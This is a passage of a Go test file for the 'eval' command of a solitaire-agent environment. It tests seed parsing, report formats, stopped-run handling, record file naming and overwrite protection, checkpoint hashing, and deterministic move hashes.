package cli

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spiderenv/spider/agents"
	"github.com/spiderenv/spider/env"
	"github.com/spiderenv/spider/record"
)

// TestCutSeeds: a long seed list is cut between seeds, never inside one.
func TestCutSeeds(t *testing.T) {
	for list, want := range map[string]string{
		"1-1000":                      "1-1000",
		"100003,100020,100027,100056": "100003,100020,...",
		"1000000000000000000000":      "10000000000000000...",
	} {
		if got := cutSeeds(list, 20); got != want {
			t.Errorf("cutSeeds(%q, 20) = %q, want %q", list, got, want)
		}
	}
}

func TestParseSeeds(t *testing.T) {
	got, err := parseSeeds("1, 5,10-12")
	if err != nil || !slices.Equal(got, []uint64{1, 5, 10, 11, 12}) {
		t.Fatalf("parseSeeds = %v, %v", got, err)
	}
	for bad, want := range map[string]string{
		"":                     `--seeds is empty: give deals such as 1,5,10-19`,
		"1,":                   `seed "" is not a number from 0 to 2^64-1`,
		"x":                    `seed "x" is not a number from 0 to 2^64-1`,
		"-1":                   `seed "-1" is not a number from 0 to 2^64-1`,
		"x-3":                  `seed "x-3" is not a number from 0 to 2^64-1`,
		"18446744073709551616": `seed "18446744073709551616" is not a number from 0 to 2^64-1`,
		"5-3":                  `seed range "5-3": want LOW-HIGH with LOW <= HIGH`,
		"1-":                   `seed range "1-": want LOW-HIGH with LOW <= HIGH`,
		"1-100000000":          `seed range "1-100000000" is too long: at most 10,000,000 deals in all`,
		"0-9999990,0-9999990":  `seed range "0-9999990" is too long: at most 10,000,000 deals in all`,
		"1,1":                  `seed 1 is listed twice: each deal is played once`,
		"10-20,1-5,15":         `seed 15 is listed twice: each deal is played once`,
		"3-8,1-3":              `seed 3 is listed twice: each deal is played once`,
	} {
		if _, err := parseSeeds(bad); err == nil || err.Error() != want {
			t.Errorf("parseSeeds(%q): %v; want %q", bad, err, want)
		}
	}
}

func smallEval() evalOptions {
	return evalOptions{game: env.Options{Suits: 1, MaxSteps: 400}, policies: "random,greedy", seeds: "1-12", workers: 2}
}

func TestEvalEndToEnd(t *testing.T) {
	o := smallEval()
	o.out.json = true
	var out, errb bytes.Buffer
	if err := runEval(context.Background(), o, &out, &errb); err != nil {
		t.Fatal(err)
	}
	var rep evalReport
	if err := json.Unmarshal(out.Bytes(), &rep); err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	if len(rep.Policies) != 2 || rep.Policies[0].Games != 12 || len(rep.Comparisons) != 1 || rep.Seeds != 12 {
		t.Fatalf("report %+v", rep)
	}
	for _, p := range rep.Policies {
		if p.WinLo > p.WinRate || p.WinHi < p.WinRate || p.Moves <= 0 {
			t.Errorf("%s: rate %v outside its interval [%v, %v] or no moves", p.Policy, p.WinRate, p.WinLo, p.WinHi)
		}
	}
	c := rep.Comparisons[0]
	if c.A != "random" || c.B != "greedy" || c.ScoreP < 0 || c.ScoreP > 1 || c.WinsP < 0 || c.WinsP > 1 {
		t.Errorf("comparison %+v", c)
	}
	if rep.Policies[1].Runs <= rep.Policies[0].Runs {
		t.Errorf("greedy completed %.2f runs, random %.2f", rep.Policies[1].Runs, rep.Policies[0].Runs)
	}
	// Progress counts deals, not policies x deals, and into a buffer (not
	// a terminal) it writes whole lines.
	if p := errb.String(); !strings.Contains(p, "12/12 deals") || strings.Contains(p, "/24") || strings.Contains(p, "\r") || !strings.HasSuffix(p, "\n") {
		t.Errorf("progress: %q; want lines ending in 12/12 deals, no carriage return", p)
	}

	o.out.json, o.out.csv = false, true
	out.Reset()
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 3 || rows[1][2] != "random" {
		t.Fatalf("csv %v %v", rows, err)
	}
	o.out.csv = false
	out.Reset()
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "win rate (95% CI)") || !strings.Contains(out.String(), "McNemar") {
		t.Fatalf("table:\n%s", out.String())
	}
}

func TestEvalRefusesBadFlags(t *testing.T) {
	for _, tc := range []struct {
		mut  func(*evalOptions)
		want string
	}{
		{func(o *evalOptions) { o.policies = "random,chess" }, `agents: unknown agent "chess"`},
		{func(o *evalOptions) { o.policies = " , " }, "no policy to evaluate"},
		{func(o *evalOptions) { o.seeds = "9-1" }, `seed range "9-1": want LOW-HIGH with LOW <= HIGH`},
		{func(o *evalOptions) { o.out.json, o.out.csv = true, true }, "choose one of --json and --csv"},
		{func(o *evalOptions) { o.seeds, o.games = "", 0 }, "--games 0: want 1 to 10,000,000"},
		{func(o *evalOptions) { o.seeds, o.set = "", map[string]bool{"seeds": true} }, "--seeds is empty"},
		{func(o *evalOptions) { o.game.Suits = 3 }, "--suits must be 1, 2 or 4, not 3"},
		{func(o *evalOptions) { o.moveMs = -1 }, "--move-ms -1 is out of range: 0 (no limit) to 3600000"},
		{func(o *evalOptions) { o.moveMs = math.MaxInt }, fmt.Sprintf("--move-ms %d is out of range", math.MaxInt)},
	} {
		o := smallEval()
		tc.mut(&o)
		err := runEval(context.Background(), o, &bytes.Buffer{}, &bytes.Buffer{})
		if _, ok := err.(usageError); !ok || !strings.HasPrefix(err.Error(), tc.want) {
			t.Errorf("%+v: %v; want a usage error saying %q", o, err, tc.want)
		}
	}
}

// TestEvalStoppedKeepsFinishedDeals stops an evaluation far from its end:
// it fails with the stop, yet writes the deals both policies finished,
// marked as stopped, each a whole game.
func TestEvalStoppedKeepsFinishedDeals(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	o := smallEval()
	o.policies, o.seeds, o.out.json, o.perGame = "first,greedy", "1-100000", true, true
	var out, errb bytes.Buffer
	err := runEval(ctx, o, &out, &errb)
	if !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "stopped after") {
		t.Fatalf("a stopped eval returned %v", err)
	}
	var rep evalReport
	if err := json.Unmarshal(out.Bytes(), &rep); err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	if !rep.Stopped || rep.Seeds == 0 || rep.Seeds >= 100000 || len(rep.Games) != 2*rep.Seeds || rep.Policies[0].Games != rep.Seeds {
		t.Fatalf("stopped %v with %d deals, %d games, %d for %s", rep.Stopped, rep.Seeds, len(rep.Games), rep.Policies[0].Games, rep.Policies[0].Policy)
	}
	r := env.MustRules(o.game)
	for _, g := range rep.Games {
		whole, err := agents.Evaluate(context.Background(), r, []string{g.Policy}, []uint64{g.Seed}, 1, agents.Options{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if x := whole.Results[0][0]; x.Moves != g.Moves || x.Won != g.Won || actionsHash(x.Actions) != g.ActionsHash {
			t.Fatalf("%s on deal %d: %d moves kept, %d in the whole game", g.Policy, g.Seed, g.Moves, x.Moves)
		}
	}
}

// TestEvalStoppedSaysSoInEveryFormat: the text and CSV of a stopped
// evaluation are marked as the JSON is, so that partial results piped on
// are not read for whole ones.
func TestEvalStoppedSaysSoInEveryFormat(t *testing.T) {
	for _, asCSV := range []bool{false, true} {
		for _, stop := range []bool{false, true} {
			o := smallEval()
			o.policies, o.out.csv = "first", asCSV
			limit := time.Minute
			if stop {
				o.seeds, limit = "1-100000", 500*time.Millisecond
			}
			ctx, cancel := context.WithTimeout(context.Background(), limit)
			var out bytes.Buffer
			err := runEval(ctx, o, &out, &bytes.Buffer{})
			cancel()
			if (err != nil) != stop {
				t.Fatalf("csv %v, stopped %v: %v", asCSV, stop, err)
			}
			var marked bool
			if asCSV {
				rows, err := csv.NewReader(&out).ReadAll()
				col := -1
				if err == nil && len(rows) == 2 {
					col = slices.Index(rows[0], "stopped")
				}
				if col < 0 {
					t.Fatalf("CSV %q: %v", rows, err)
				}
				marked = rows[1][col] == "true"
				if v := rows[1][col]; v != "true" && v != "false" {
					t.Fatalf("stopped column %q", v)
				}
			} else {
				first, _, _ := strings.Cut(out.String(), "\n")
				marked = strings.Contains(first, "stopped early")
			}
			if marked != stop {
				t.Fatalf("csv %v, stopped %v: marked %v:\n%s", asCSV, stop, marked, out.String())
			}
		}
	}
}

// checkColumns checks that both data rows of a CSV hold want's values in
// the columns its keys name, and that the option columns added after the
// first fixed ones come after the last fixed column, last, so that a new
// option adds a column at the end rather than moving the others.
func checkColumns(t *testing.T, rows [][]string, want map[string]string, fixed int, last string) {
	t.Helper()
	for key, v := range want {
		col := slices.Index(rows[0], key)
		if col < 0 || rows[1][col] != v || rows[2][col] != v {
			t.Errorf("column %s (at %d): want %s in %q", key, col, v, rows[1:])
		}
		if _, isOption := env.LookupOption(key); isOption && !slices.Contains(rows[0][:fixed], key) && col < slices.Index(rows[0], last) {
			t.Errorf("option column %s at %d, before the fixed ones: %q", key, col, rows[0])
		}
	}
}

// TestEvalSaysHowItPlayed checks that the CSV and the text table say what
// the JSON says of how the games were played: every game option (a new
// one gets its CSV column from env's table), and search's budget and draw,
// which change its games as much.
func TestEvalSaysHowItPlayed(t *testing.T) {
	o := smallEval()
	o.policies, o.seeds, o.nodes, o.draw = "greedy,search", "1-2", 300, 2
	o.game.TimePerActionMs, o.game.Encoding = 1500, env.Float32 // a remote agent would be shown float32
	o.out.csv = true
	var out bytes.Buffer
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("CSV %q: %v", rows, err)
	}
	// Every column keeps its place: older readers count them.
	if got := strings.Join(rows[0][:19], ","); got != "rules,suits,policy,games,wins,win_rate,win_lo95,win_hi95,mean_score,score_ci95,mean_runs,runs_ci95,mean_moves,ms_per_game,ms_per_move,failures,suite,max_steps,stopped" {
		t.Fatalf("first columns %s", got)
	}
	want := map[string]string{"nodes": "300", "move_ms": "0", "draw": "2", "seeds": "1-2", "workers": "2", "suite_version": "", "program_version": programVersion()}
	for _, f := range env.OptionFields() {
		want[f.Key] = f.Text(env.MustRules(o.game).Options())
	}
	if want["time_per_action_ms"] != "1500" || want["obs"] != "float32" {
		t.Fatalf("options %v", want)
	}
	checkColumns(t, rows, want, 19, "checkpoint_sha256")
	o.out.csv = false
	out.Reset()
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	if !strings.Contains(text, "2 deals (seeds 1-2)") || !strings.Contains(text, "time-per-action-ms 1500, obs float32, 2 worker(s)") ||
		!strings.Contains(text, "search (300 nodes, draw 2)") || strings.Contains(text, "greedy (") {
		t.Fatalf("table:\n%s", text)
	}
	// The default budget is written as the number it is, and does not
	// name a row: a run with --nodes 20000 reads as one without.
	o.nodes, o.draw, o.out.json = 0, 0, true
	out.Reset()
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	var rep evalReport
	if err := json.Unmarshal(out.Bytes(), &rep); err != nil || rep.Nodes != agents.DefaultNodes || rep.Workers != 2 || budgetNote("search", rep) != "" {
		t.Fatalf("nodes %d, workers %d, note %q (%v)", rep.Nodes, rep.Workers, budgetNote("search", rep), err)
	}
}

// TestHintMakerRefusesBadMoveMs refuses a --move-ms that play and serve
// would pass to a search hint, before anything is served.
func TestHintMakerRefusesBadMoveMs(t *testing.T) {
	for _, ms := range []int{-5, maxMoveMs + 1} {
		if _, err := hintMaker("search", ms); err == nil || !strings.Contains(err.Error(), "--move-ms") {
			t.Errorf("--hint search --move-ms %d: %v", ms, err)
		} else if _, ok := err.(usageError); !ok {
			t.Errorf("--move-ms %d: %T, want a usage error", ms, err)
		}
	}
	m, err := hintMaker("search", 30)
	if err != nil {
		t.Fatal(err)
	}
	if s, ok := m().(*agents.Search); !ok || s.MoveTime != 30*time.Millisecond {
		t.Fatalf("--hint search --move-ms 30 made %#v", m())
	}
}

// TestRecordNamesNeverCollide: policies whose file-safe names coincide, or
// are too long for a file name, get a hash of their whole name; others
// keep the plain name the docs use (search-100020.spider).
func TestRecordNamesNeverCollide(t *testing.T) {
	long := "nn:" + strings.Repeat("d/", 150) + "m.spider"
	got := recordNames([]string{"search", "remote:unix:/tmp/x/a.sock", "remote:unix:/tmp/x/a_sock", long})
	if got[0] != "search" {
		t.Errorf("search's records are named %q", got[0])
	}
	if got[1] == got[2] || !strings.HasPrefix(got[1], "remote_unix__tmp_x_a_sock-") {
		t.Errorf("two policies of one file-safe name: %q and %q", got[1], got[2])
	}
	if len(got[3]) > maxRecordName {
		t.Errorf("a long policy name gives records of %d bytes", len(got[3]))
	}
}

// TestEvalStoppedSavesNoRecords: after a stop the report of the deals
// finished is written, but no record: saving costs a millisecond or two a
// game, and the work must end within seconds of the stop.
func TestEvalStoppedSavesNoRecords(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	rec := filepath.Join(t.TempDir(), "rec")
	o := smallEval()
	o.policies, o.seeds, o.out.json, o.record = "first", "1-100000", true, rec
	var out bytes.Buffer
	err := runEval(ctx, o, &out, &bytes.Buffer{})
	if !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "no records are saved after a stop") || !strings.Contains(out.String(), `"stopped": true`) {
		t.Fatalf("a stopped eval with --record: %v\n%s", err, out.String())
	}
	if entries, err := os.ReadDir(rec); !os.IsNotExist(err) {
		t.Errorf("a stopped eval saved records: %d files, %v", len(entries), err)
	}
}

// TestSaveRecordsStops: a stop that comes while the records are saved ends
// the save at once, saying how many were saved, each whole.
func TestSaveRecordsStops(t *testing.T) {
	r := env.MustRules(env.Options{Suits: 1, MaxSteps: 50})
	ev, err := agents.Evaluate(context.Background(), r, []string{"first"}, []uint64{1, 2, 3, 4}, 1, agents.Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	ctx := &stopsAfter{Context: context.Background(), left: 2}
	err = saveRecords(ctx, dir, ev, evalReport{})
	if !errors.Is(err, context.Canceled) || !strings.Contains(err.Error(), "stopped after saving 2 of 4, each whole") {
		t.Fatalf("saveRecords stopped after two: %v", err)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 2 {
		t.Fatalf("%d files saved, want 2: %v", len(entries), entries)
	}
	for _, e := range entries {
		if _, err := record.Load(filepath.Join(dir, e.Name())); err != nil {
			t.Errorf("%s: %v", e.Name(), err)
		}
	}
}

// stopsAfter is a context that ends after its Err has said nil left times.
type stopsAfter struct {
	context.Context
	left int
}

func (c *stopsAfter) Err() error {
	if c.left > 0 {
		c.left--
		return nil
	}
	return context.Canceled
}

// TestEvalWritesResultsBeforeRecords: a record that cannot be saved (here
// a save that fails) costs the records, not the results.
func TestEvalWritesResultsBeforeRecords(t *testing.T) {
	rec := t.TempDir()
	real := saveRecord
	saveRecord = func(string, record.Game) error { return errors.New("disk full") }
	t.Cleanup(func() { saveRecord = real })
	var stdout, stderr bytes.Buffer
	code := Main([]string{"eval", "--policies", "random", "--games", "2", "--max-steps", "20", "--json", "--record", rec}, nil, &stdout, &stderr)
	if code != 1 || !strings.Contains(stdout.String(), `"games": 2`) || !strings.Contains(stderr.String(), "the results are written, but not every game's record: disk full") {
		t.Fatalf("exit %d, stdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
}

// TestEvalChecksRecordTargetsFirst: a folder where a record goes, or a
// file there that is not a game record, is refused before any game is
// played. The folder was found when the records were saved, after the
// whole evaluation, and cost the records after it; the file was replaced
// without a word. An old record there is replaced, as before.
func TestEvalChecksRecordTargetsFirst(t *testing.T) {
	args := func(rec string) []string {
		return []string{"eval", "--policies", "random", "--games", "3", "--max-steps", "20", "--json", "--record", rec}
	}
	rec := t.TempDir()
	if err := os.Mkdir(filepath.Join(rec, "random-max-steps20-2.spider"), 0o755); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if code := Main(args(rec), nil, &stdout, &stderr); code != 2 || stdout.Len() != 0 || !strings.Contains(stderr.String(), "random-max-steps20-2.spider is not a regular file, where the record of random-max-steps20 on seed 2 goes") {
		t.Fatalf("a folder where a record goes: exit %d, stdout %q, stderr %q", code, stdout.String(), stderr.String())
	}
	if names, _ := os.ReadDir(rec); len(names) != 1 {
		t.Fatalf("a refused eval left %d entries in the folder, want only the one there before", len(names))
	}
	rec = t.TempDir()
	text := filepath.Join(rec, "random-max-steps20-1.spider")
	if err := os.WriteFile(text, []byte("precious"), 0o644); err != nil {
		t.Fatal(err)
	}
	stdout.Reset()
	stderr.Reset()
	if code := Main(args(rec), nil, &stdout, &stderr); code != 2 || stdout.Len() != 0 || !strings.Contains(stderr.String(), "random-max-steps20-1.spider exists and is not a game record: not replaced") {
		t.Fatalf("a text file where a record goes: exit %d, stdout %q, stderr %q", code, stdout.String(), stderr.String())
	}
	if b, _ := os.ReadFile(text); string(b) != "precious" {
		t.Fatalf("a refused eval changed the file: %q", b)
	}
	// Files that no record of this eval would replace are left alone.
	for _, name := range []string{"random-max-steps20-4.spider", "greedy-max-steps20-1.spider", "notes.txt"} {
		if err := os.WriteFile(filepath.Join(rec, name), []byte("other"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Remove(text); err != nil {
		t.Fatal(err)
	}
	// A link where a record goes is replaced by the record, its target
	// (here a folder) untouched.
	target := t.TempDir()
	if err := os.Symlink(target, filepath.Join(rec, "random-max-steps20-2.spider")); err != nil {
		t.Fatal(err)
	}
	for range 2 { // the second run replaces the first's records
		stdout.Reset()
		stderr.Reset()
		if code := Main(args(rec), nil, &stdout, &stderr); code != 0 {
			t.Fatalf("exit %d: %s", code, stderr.String())
		}
	}
	for _, seed := range []string{"2", "3"} {
		if _, err := record.Load(filepath.Join(rec, "random-max-steps20-"+seed+".spider")); err != nil {
			t.Fatal(err)
		}
	}
	if st, err := os.Stat(target); err != nil || !st.IsDir() {
		t.Fatalf("the link's target: %v", err)
	}
	for name, want := range map[string]string{"random-max-steps20-4.spider": "other", "greedy-max-steps20-1.spider": "other", "notes.txt": "other"} {
		if b, _ := os.ReadFile(filepath.Join(rec, name)); string(b) != want {
			t.Errorf("%s, which no record of the eval replaces, now holds %q", name, b)
		}
	}
}

// TestEvalHashesCheckpoints: an nn: policy's report says which network
// its file held, which its path alone does not once a trainer rewrites it.
func TestEvalHashesCheckpoints(t *testing.T) {
	path := filepath.Join(t.TempDir(), "net.spider")
	b, err := os.ReadFile(filepath.Join("..", "..", "models", "classic-1suit.spider"))
	if err != nil || os.WriteFile(path, b, 0o644) != nil {
		t.Fatal(err)
	}
	o := smallEval()
	o.policies, o.seeds, o.game.MaxSteps = "nn:"+path+",greedy", "1", 30
	o.out.csv = true
	var out bytes.Buffer
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	col := -1
	if err == nil && len(rows) == 3 {
		col = slices.Index(rows[0], "checkpoint_sha256")
	}
	sum := sha256.Sum256(b)
	if col < 0 || rows[1][col] != hex.EncodeToString(sum[:]) || rows[2][col] != "" {
		t.Fatalf("CSV %q: %v", rows, err)
	}
	o.out.csv = false
	out.Reset()
	if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
		t.Fatal(err)
	}
	if want := "nn:" + path + ": checkpoint sha256 " + hex.EncodeToString(sum[:]) + "\n"; !strings.Contains(out.String(), want) || strings.Count(out.String(), "checkpoint sha256") != 1 {
		t.Fatalf("the text names the checkpoint's hash other than once as %q:\n%s", want, out.String())
	}
}

// TestEvalRecordsNameTheBudget: records of search played away from its
// defaults say so in their player and file names, so that two draws
// saved into one folder keep each other's games; the default's keep
// their plain names. An oracle's record says that it sees the hidden
// cards, as every table does (its player was "oracle").
func TestEvalRecordsNameTheBudget(t *testing.T) {
	rec := t.TempDir()
	for _, args := range [][]string{{}, {"--draw", "1", "--nodes", "300"}} {
		var stdout, stderr bytes.Buffer
		if code := Main(append([]string{"eval", "--policies", "greedy,search,oracle", "--seeds", "3", "--max-steps", "30", "--record", rec}, args...), nil, &stdout, &stderr); code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr.String())
		}
	}
	for name, player := range map[string]string{
		"greedy-max-steps30-3.spider": "greedy", "search-max-steps30-3.spider": "search", "search-n300-draw1-max-steps30-3.spider": "search (300 nodes, draw 1)",
		"oracle-max-steps30-3.spider": "oracle (sees hidden cards)", "oracle-n300-max-steps30-3.spider": "oracle (sees hidden cards) (300 nodes)",
	} {
		g, err := record.Load(filepath.Join(rec, name))
		if err != nil || g.Player != player {
			t.Errorf("%s: player %q, want %q (%v)", name, g.Player, player, err)
		}
	}
	if names, err := os.ReadDir(rec); err != nil || len(names) != 5 {
		t.Errorf("%d records: %v", len(names), err)
	}
}

// TestEvalRecordsNameTheGame: evals of other games saved into one folder
// keep each other's records of the same policy and seed; the default
// game's keep their plain names.
func TestEvalRecordsNameTheGame(t *testing.T) {
	rec := t.TempDir()
	for _, args := range [][]string{{}, {"--suits", "2"}, {"--rules", "cardems", "--suits", "4"}, {"--time-per-action-ms", "1500", "--max-steps", "40"}} {
		var stdout, stderr bytes.Buffer
		if code := Main(append([]string{"eval", "--policies", "greedy", "--seeds", "3", "--record", rec}, args...), nil, &stdout, &stderr); code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr.String())
		}
	}
	for name, want := range map[string]env.Options{
		"greedy-3.spider":                                    {},
		"greedy-suits2-3.spider":                             {Suits: 2},
		"greedy-cardems-suits4-3.spider":                     {RuleSet: env.Cardems, Suits: 4},
		"greedy-max-steps40-time-per-action-ms1500-3.spider": {MaxSteps: 40, TimePerActionMs: 1500},
	} {
		g, err := record.Load(filepath.Join(rec, name))
		if err != nil || !g.Game.SameGame(want) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if names, err := os.ReadDir(rec); err != nil || len(names) != 4 {
		t.Errorf("%d records: %v", len(names), err)
	}
}

// TestEvalExitsWithStdin: with --exit-with-stdin, eval stops when its
// stdin ends (the program that started it died) and says why; without
// it, an ended stdin changes nothing.
func TestEvalExitsWithStdin(t *testing.T) {
	var stdout, stderr bytes.Buffer
	start := time.Now()
	code := Main([]string{"eval", "--exit-with-stdin", "--policies", "search", "--suits", "1", "--games", "200", "--workers", "1"}, strings.NewReader(""), &stdout, &stderr)
	if code == 0 || !strings.Contains(stderr.String(), "stdin ended (--exit-with-stdin)") {
		t.Fatalf("exit %d, stderr %q", code, stderr.String())
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("stopping took %v", d) // 200 search games take minutes
	}
	stdout.Reset()
	stderr.Reset()
	if code := Main([]string{"eval", "--policies", "greedy", "--suits", "1", "--games", "3", "--json"}, strings.NewReader(""), &stdout, &stderr); code != 0 || !strings.Contains(stdout.String(), `"wins"`) {
		t.Fatalf("without the flag: exit %d, stderr %q", code, stderr.String())
	}
}

// TestWriteFailuresListsTwentyAPolicy: the text lists the first
// failuresShown failed games of each policy, one line each, and says how
// many more the JSON holds, so that a policy whose every game failed does
// not bury the table under thousands of lines, yet no listed game is lost
// from the count.
func TestWriteFailuresListsTwentyAPolicy(t *testing.T) {
	rep := evalReport{Policies: []policySummary{{Policy: "a"}, {Policy: "b"}}}
	for seed := uint64(1); seed <= failuresShown+1; seed++ {
		rep.Failures = append(rep.Failures, gameFailure{Policy: "a", Seed: seed, Moves: 3, Reason: "late"})
	}
	rep.Failures = append(rep.Failures, gameFailure{Policy: "b", Seed: 7, Moves: 2, Reason: "illegal"})
	var out bytes.Buffer
	writeFailures(&out, rep)
	text := out.String()
	listed := strings.Count(text, "  a, seed ")
	if listed != failuresShown || !strings.Contains(text, "  a, seed 20, after 3 moves: late\n") || strings.Contains(text, "a, seed 21,") {
		t.Fatalf("listed %d of a's failures, want seeds 1 to %d:\n%s", listed, failuresShown, text)
	}
	if !strings.Contains(text, "counted as not won, at the lowest score they could still have ended with") {
		t.Fatalf("the heading does not say how a failed game is counted (failed_score lowest):\n%s", text)
	}
	if !strings.Contains(text, "  a: 1 more (--json lists every one)\n") || !strings.Contains(text, "  b, seed 7, after 2 moves: illegal\n") || strings.Contains(text, "b: ") {
		t.Fatalf("want a's 1 more counted and b's one failure listed:\n%s", text)
	}
}

// TestEvalPlaysPinnedMoves pins the moves each agent plays on a few deals
// of every rule set and suit count, as eval's actions_sha256 names them:
// the docs compare builds by those hashes ("the same moves"), so a change
// to the rules, the deals, the random numbers or an agent that changes a
// move must show here. It also runs under make test-ports, where the same
// hashes show that a 32-bit build plays the same games. A deliberate
// change updates the table from the failure's message.
func TestEvalPlaysPinnedMoves(t *testing.T) {
	policies := []string{"random", "greedy", "search", "oracle"}
	want := map[string]string{
		"cardems suits 1 greedy 1": "39411933977a28dd",
		"cardems suits 1 greedy 2": "4ce2c78d1be70927",
		"cardems suits 1 oracle 1": "e47e1c47e5d87435",
		"cardems suits 1 oracle 2": "e18416120c9b3e64",
		"cardems suits 1 random 1": "036a593248c5f708",
		"cardems suits 1 random 2": "1e07358f873b975e",
		"cardems suits 1 search 1": "56c8d7a24705477f",
		"cardems suits 1 search 2": "6c01598d52a8452a",
		"cardems suits 2 greedy 1": "75b24fea1f5e4b42",
		"cardems suits 2 greedy 2": "57a124222d3e35a1",
		"cardems suits 2 oracle 1": "adf0ca2494d21acb",
		"cardems suits 2 oracle 2": "f47703eb19b31fe0",
		"cardems suits 2 random 1": "c42a02eb61e9b2f4",
		"cardems suits 2 random 2": "3b0954e19305d2e9",
		"cardems suits 2 search 1": "13259d38f3b5f6a3",
		"cardems suits 2 search 2": "ce6953c1ca114013",
		"cardems suits 4 greedy 1": "0c2e99d9b10a70ad",
		"cardems suits 4 greedy 2": "3765c94f233c5f8c",
		"cardems suits 4 oracle 1": "12afd25535281c3f",
		"cardems suits 4 oracle 2": "fe785d9dc930fc85",
		"cardems suits 4 random 1": "f2bd47679721bfb6",
		"cardems suits 4 random 2": "453a7b42470f9173",
		"cardems suits 4 search 1": "5cac00169491e89b",
		"cardems suits 4 search 2": "fb8c328cc009740e",
		"classic suits 1 greedy 1": "6884301f44c4d232",
		"classic suits 1 greedy 2": "caf58824434c8f65",
		"classic suits 1 oracle 1": "a0b47ac3a962dda6",
		"classic suits 1 oracle 2": "111217968886d22b",
		"classic suits 1 random 1": "036a593248c5f708",
		"classic suits 1 random 2": "1e07358f873b975e",
		"classic suits 1 search 1": "7e67e3286a973856",
		"classic suits 1 search 2": "750c09a4dbd94e0a",
		"classic suits 2 greedy 1": "75b24fea1f5e4b42",
		"classic suits 2 greedy 2": "57a124222d3e35a1",
		"classic suits 2 oracle 1": "3eebd49060d3dacf",
		"classic suits 2 oracle 2": "f47703eb19b31fe0",
		"classic suits 2 random 1": "c42a02eb61e9b2f4",
		"classic suits 2 random 2": "3b0954e19305d2e9",
		"classic suits 2 search 1": "76eaa5e3b3bd2733",
		"classic suits 2 search 2": "ce6953c1ca114013",
		"classic suits 4 greedy 1": "0c2e99d9b10a70ad",
		"classic suits 4 greedy 2": "3765c94f233c5f8c",
		"classic suits 4 oracle 1": "12afd25535281c3f",
		"classic suits 4 oracle 2": "fe785d9dc930fc85",
		"classic suits 4 random 1": "f2bd47679721bfb6",
		"classic suits 4 random 2": "453a7b42470f9173",
		"classic suits 4 search 1": "1efc8f770eb92751",
		"classic suits 4 search 2": "e8d5f4d12460f4ae",
	}
	got := map[string]string{}
	for _, game := range []env.Options{
		{Suits: 1}, {Suits: 2}, {Suits: 4}, {RuleSet: env.Cardems, Suits: 1}, {RuleSet: env.Cardems, Suits: 2}, {RuleSet: env.Cardems, Suits: 4},
	} {
		game.MaxSteps = 300
		r := env.MustRules(game)
		res, err := agents.Evaluate(context.Background(), r, policies, []uint64{1, 2}, 2, agents.Options{Nodes: 1000}, nil)
		if err != nil {
			t.Fatal(err)
		}
		for p, name := range policies {
			for g, seed := range []uint64{1, 2} {
				key := fmt.Sprintf("%v suits %d %s %d", game.RuleSet, game.Suits, name, seed)
				got[key] = actionsHash(res.Results[p][g].Actions)
			}
		}
	}
	var diff []string
	for k, h := range got {
		if want[k] != h {
			diff = append(diff, fmt.Sprintf("%q: %q,", k, h))
		}
	}
	if len(diff) > 0 || len(want) != len(got) {
		slices.Sort(diff)
		t.Fatalf("%d of %d games played other moves (or the table has %d):\n%s", len(diff), len(got), len(want), strings.Join(diff, "\n"))
	}
}

// TestEvalOneGameHasNoInterval: a policy's mean over one game has no 95%
// interval, and the report says so (JSON null, an empty CSV cell, "n/a")
// instead of a width of 0 that reads as certainty; results reads it back.
func TestEvalOneGameHasNoInterval(t *testing.T) {
	o := smallEval()
	o.policies, o.seeds = "random,greedy", "5"
	report := func(json, csv bool) string {
		t.Helper()
		o.out.json, o.out.csv = json, csv
		var out bytes.Buffer
		if err := runEval(context.Background(), o, &out, &bytes.Buffer{}); err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	var rep struct {
		Policies []map[string]any `json:"policies"`
	}
	js := report(true, false)
	if err := json.Unmarshal([]byte(js), &rep); err != nil || len(rep.Policies) != 2 {
		t.Fatalf("JSON %s: %v", js, err)
	}
	for _, p := range rep.Policies {
		if v, ok := p["mean_score_ci95"]; !ok || v != nil || p["mean_runs_ci95"] != nil {
			t.Errorf("%v: mean_score_ci95 %v, mean_runs_ci95 %v; want null", p["policy"], v, p["mean_runs_ci95"])
		}
	}
	rows, err := csv.NewReader(strings.NewReader(report(false, true))).ReadAll()
	if err != nil || len(rows) != 3 || rows[0][9] != "score_ci95" || rows[1][9] != "" || rows[2][11] != "" || rows[1][8] == "" {
		t.Errorf("CSV %q: %v", rows, err)
	}
